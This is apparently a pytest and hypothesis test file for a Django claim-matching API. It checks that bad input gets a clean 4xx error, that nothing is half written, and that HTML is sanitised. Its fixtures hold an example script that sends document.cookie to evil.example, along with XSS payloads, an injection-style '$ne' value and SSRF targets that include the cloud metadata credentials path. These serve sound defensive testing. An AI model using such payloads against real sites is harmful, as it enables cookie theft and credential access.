"""Bad input of every kind: each answer is a clear 4xx in the one JSON error
shape (or a form error in the UI), never a 5xx, and nothing is half written.

Property-based with hypothesis (derandomized, so CI sees the same cases every
run); the schema-wide fuzzing is schemathesis in tests/test_api_schema.py."""

from __future__ import annotations

import ipaddress
import json
import socket
import threading
import time
from collections.abc import Iterator

import hypothesis
import pytest
from django.test import Client
from hypothesis import strategies as st
from rest_framework.test import APIClient

from claims.models import Article, Claim, ImportJob, Reference, Verdict

pytestmark = pytest.mark.django_db

PROPERTY = hypothesis.settings(
    max_examples=200,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[hypothesis.HealthCheck.function_scoped_fixture, hypothesis.HealthCheck.too_slow],
)
# A rendered page per example is slower; fewer cases keep the file under half a minute.
FORMS = hypothesis.settings(PROPERTY, max_examples=100)
MB = 1024 * 1024


def counts() -> dict[str, int]:
    return {model.__name__: model.objects.count() for model in (Article, Claim, Reference, ImportJob, Verdict)}


def assert_clear_4xx(response, *allowed: int) -> None:
    assert response.status_code in allowed, (response.status_code, response.content[:300])
    error = response.json()["error"]
    assert set(error) == {"code", "message", "fields"}
    assert error["code"] and error["message"]


@pytest.fixture(autouse=True)
def _no_rate_limits(settings):
    # Hundreds of requests from one token: the limits are tested elsewhere.
    settings.API_THROTTLE_RATES = dict.fromkeys(settings.API_THROTTLE_RATES, "1000000/minute")


def post_raw(api: APIClient, path: str, body: bytes, content_type: str = "application/json"):
    return api.post(path, body, content_type=content_type)


# --- Hand-picked bodies ---------------------------------------------------------------------

DEEP = 100_000
BAD_BODIES = {
    "empty": (b"", {400}),
    "json null": (b"null", {400}),
    "a list": (b"[1, 2]", {400}),
    "10 MB of text": (json.dumps({"text": "Troops numbered 12,000. " * (10 * MB // 24)}).encode(), {413}),
    "10 MB of binary": (bytes(range(256)) * (10 * MB // 256), {413}),
    "binary": (bytes(range(256)) * 4, {400}),
    "invalid UTF-8": (b'{"text": "caf\xe9 \xff\xfe voted 397 to 0"}', {400}),
    "deeply nested list": (b"[" * DEEP + b"]" * DEEP, {400}),
    "deeply nested object": (b'{"text":' * DEEP + b'"x"' + b"}" * DEEP, {400}),
    "a 5000-digit number": (b'{"text": "x", "top_k": ' + b"9" * 5000 + b"}", {400}),
    "10**400": (json.dumps({"text": "x", "top_k": 10**400, "published": 10**400}).encode(), {400}),
    "1e999": (b'{"text": "x", "top_k": 1e999, "published": 1e999}', {400}),
    "NaN": (b'{"text": "x", "top_k": NaN}', {400}),
    "a NUL character": (b'{"text": "voted\\u0000 397 to 0"}', {400}),
    "a lone surrogate": (b'{"text": "voted \\ud800 397 to 0"}', {400}),
    "text that is an object": (b'{"text": {"$ne": ""}, "title": ["x"]}', {400}),
    "only a script": (b'{"text": "<script>alert(1)</script>", "format": "html"}', {400, 422}),
}


@pytest.mark.parametrize("path", ["/api/articles", "/api/match"])
@pytest.mark.parametrize("name", list(BAD_BODIES))
def test_it_answers_bad_bodies_with_a_clear_4xx_and_writes_nothing(reviewer_api, path, name):
    body, expected = BAD_BODIES[name]
    before = counts()
    response = post_raw(reviewer_api, path, body)
    if path == "/api/match" and name == "only a script":
        expected = {200}  # a claim text to match, not an article: nothing is stored either way
    if response.status_code == 200:
        assert response.json()["results"] is not None
    else:
        assert_clear_4xx(response, *expected)
    assert counts() == before


def test_it_refuses_a_body_in_another_format_or_none(reviewer_api):
    before = counts()
    assert_clear_4xx(post_raw(reviewer_api, "/api/articles", b"text=x", "application/x-www-form-urlencoded"), 415)
    assert_clear_4xx(post_raw(reviewer_api, "/api/articles", b"<text>x</text>", "application/xml"), 415)
    assert counts() == before


def test_it_keeps_the_text_of_html_with_scripts_but_never_the_scripts(reviewer_api):
    page = (
        "<html><head><script>document.location='https://evil.example/?c='+document.cookie</script></head>"
        "<body><article><h1>Duma vote</h1><p>The State Duma voted 397 to 0 on Thursday to ratify the treaty "
        "with North Korea, officials said.</p><p>About 12,000 troops were sent, the report said.</p>"
        "<img src=x onerror=alert(1)><iframe src='javascript:alert(2)'></iframe></article></body></html>"
    )
    response = reviewer_api.post("/api/articles", {"text": page}, format="json")
    assert response.status_code == 202, response.content
    stored = Article.objects.get().text
    assert "voted 397 to 0" in stored
    for trace in ("<script", "document.cookie", "onerror", "javascript:", "<iframe"):
        assert trace not in stored


def test_it_refuses_an_upload_that_is_not_utf8_and_keeps_no_job(editor_api):
    before = counts()
    upload = {"format": "jsonl", "file": _named_file(b"\xff\xfe\x00 not text \x80\x81")}
    response = editor_api.post("/api/references/import", upload, format="multipart")
    assert_clear_4xx(response, 400, 422)
    assert counts() == before


def _named_file(data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("refs.jsonl", data, content_type="application/octet-stream")


# --- Properties -----------------------------------------------------------------------------

# Every character, lone surrogates and control characters included (JSON can
# carry them escaped even though UTF-8 cannot).
ANY_CHAR = st.characters(min_codepoint=0, max_codepoint=0x10FFFF, exclude_categories=())
ANY_TEXT = st.text(ANY_CHAR, max_size=300)
JSON_SCALARS = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | ANY_TEXT
JSON_VALUES = st.recursive(
    JSON_SCALARS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(ANY_TEXT, inner, max_size=4),
    max_leaves=12,
)
ARTICLE_FIELDS = st.fixed_dictionaries(
    {},
    optional={
        "text": JSON_VALUES,
        "title": JSON_VALUES,
        "url": JSON_VALUES,
        "published": JSON_VALUES,
        "format": JSON_VALUES | st.sampled_from(["auto", "text", "html"]),
    },
)


@PROPERTY
@hypothesis.given(payload=JSON_VALUES | ARTICLE_FIELDS)
def test_it_never_fails_or_half_writes_on_any_json_article(reviewer_api, monkeypatch, payload):
    # A generated URL must not leave the machine: every name resolves to a
    # documentation address, which the SSRF guard refuses before connecting.
    from claims.services import fetch

    monkeypatch.setattr(fetch, "resolve", lambda host, port: ["192.0.2.1"])
    before = counts()
    response = reviewer_api.post("/api/articles", json.dumps(payload), content_type="application/json")
    if response.status_code == 202:
        assert counts() == {**before, "Article": before["Article"] + 1}
    elif response.status_code == 200:  # the same content was sent before
        assert counts() == before
    else:
        assert_clear_4xx(response, 400, 413, 422)
        assert counts() == before


@PROPERTY
@hypothesis.given(text=ANY_TEXT, top_k=JSON_VALUES)
def test_it_never_fails_on_any_claim_text_to_match(reviewer_api, text, top_k):
    response = reviewer_api.post(
        "/api/match", json.dumps({"text": text, "top_k": top_k}), content_type="application/json"
    )
    if response.status_code == 200:
        assert isinstance(response.json()["results"], list)
    else:
        assert_clear_4xx(response, 400, 413, 422)


@PROPERTY
@hypothesis.given(body=st.binary(max_size=2000))
def test_it_never_fails_on_any_bytes(reviewer_api, body):
    before = counts()
    response = post_raw(reviewer_api, "/api/articles", body)
    if response.status_code not in (200, 202):  # a few byte strings are valid JSON articles
        assert_clear_4xx(response, 400, 413, 422)
        assert counts() == before


# --- No SSRF, no hanging ----------------------------------------------------------------------

PRIVATE_NETWORKS = [
    "127.0.0.0/8",
    "10.0.0.0/8",
    "172.16.0.0/12",
    "192.168.0.0/16",
    "169.254.0.0/16",  # cloud metadata lives at 169.254.169.254
    "100.64.0.0/10",
    "0.0.0.0/8",
    "::1/128",
    "fc00::/7",
    "fe80::/10",
    "::ffff:127.0.0.0/104",  # IPv4-mapped loopback
]


@FORMS
@hypothesis.given(
    address=st.sampled_from(PRIVATE_NETWORKS).flatmap(lambda net: st.ip_addresses(network=net)),
    port=st.sampled_from(["", ":80", ":5432", ":6379", ":8000"]),
    path=st.sampled_from(["/", "/admin/", "/latest/meta-data/iam/security-credentials/"]),
)
def test_it_refuses_every_private_address_without_connecting(reviewer_api, monkeypatch, address, port, path):
    from claims.services import fetch

    def never(*args, **kwargs):
        raise AssertionError("the guard let a connection through")

    monkeypatch.setattr(fetch.httpx.Client, "send", never)
    host = f"[{address}]" if isinstance(address, ipaddress.IPv6Address) else str(address)
    before = counts()
    response = reviewer_api.post("/api/articles", {"url": f"http://{host}{port}{path}"}, format="json")
    assert_clear_4xx(response, 400, 422)
    if response.status_code == 422:
        assert response.json()["error"]["code"] == "url_not_allowed"
    assert counts() == before


@pytest.fixture
def silent_server() -> Iterator[str]:
    """A local server that accepts connections and never says a word."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    held: list[socket.socket] = []

    def accept() -> None:
        while True:
            try:
                held.append(listener.accept()[0])
            except OSError:
                return

    threading.Thread(target=accept, daemon=True).start()
    yield f"http://127.0.0.1:{listener.getsockname()[1]}/story"
    for sock in held:
        sock.close()
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()


def test_it_gives_up_on_a_url_that_never_answers(reviewer_api, settings, silent_server, loopback_is_public):
    settings.FETCH_TIMEOUT_SECONDS = 1.0
    before = counts()
    started = time.monotonic()
    response = reviewer_api.post("/api/articles", {"url": silent_server}, format="json")
    assert time.monotonic() - started < 10
    assert_clear_4xx(response, 422)
    assert response.json()["error"]["code"] == "fetch_timeout"
    assert counts() == before


# --- The web forms -----------------------------------------------------------------------------


# A form body is UTF-8 on the wire: lone surrogates cannot be sent (a browser
# replaces them), so the form strategies leave them out; invalid bytes are sent raw.
FORM_TEXT = st.text(st.characters(codec="utf-8"), max_size=300)


@pytest.fixture
def claim(db) -> Claim:
    article = Article.objects.create(text="The Duma voted 397 to 0.", content_hash="form", status="done")
    return Claim.objects.create(article=article, text=article.text, start=0, end=24, status=Claim.Status.MATCHED)


@FORMS
@hypothesis.given(
    rating=FORM_TEXT | st.sampled_from(["True", "False"]),
    note=st.text(st.characters(codec="utf-8"), max_size=2000),
    sources=FORM_TEXT,
    version=FORM_TEXT | st.integers().map(str),
)
def test_it_answers_any_verdict_form_with_a_form_error_or_a_verdict(reviewer, claim, rating, note, sources, version):
    client = Client()
    client.force_login(reviewer)
    before = Verdict.objects.count()
    data = {"rating": rating, "note": note, "sources": sources, "version": version}
    response = client.post(f"/claims/{claim.pk}/verdict/", data)
    assert response.status_code in (302, 409, 422), response.status_code
    assert Verdict.objects.count() == before + (response.status_code == 302)


@FORMS
@hypothesis.given(fields=st.dictionaries(st.sampled_from(["external_id", "text", "title", "url", "rating"]), FORM_TEXT))
def test_it_answers_any_reference_form_with_a_form_error_or_a_reference(editor, fields):
    client = Client()
    client.force_login(editor)
    before = Reference.objects.count()
    response = client.post("/references/new/", fields)
    assert response.status_code in (200, 302), response.status_code
    assert Reference.objects.count() == before + (response.status_code == 302)


@pytest.mark.parametrize(
    "body",
    [
        b"rating=\xff\xfe&note=\x80\x81&version=0",
        b"rating=True&version=\xc3\x28",
        b"rating=%FF%FE&note=%ED%A0%80&version=0",  # percent-encoded invalid UTF-8 and a surrogate
        b"\x00\x01\x02" * 100,
    ],
)
def test_it_answers_undecodable_form_bodies_with_a_form_error(reviewer, claim, body):
    client = Client()
    client.force_login(reviewer)
    response = client.post(f"/claims/{claim.pk}/verdict/", body, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 422
    assert not Verdict.objects.exists()
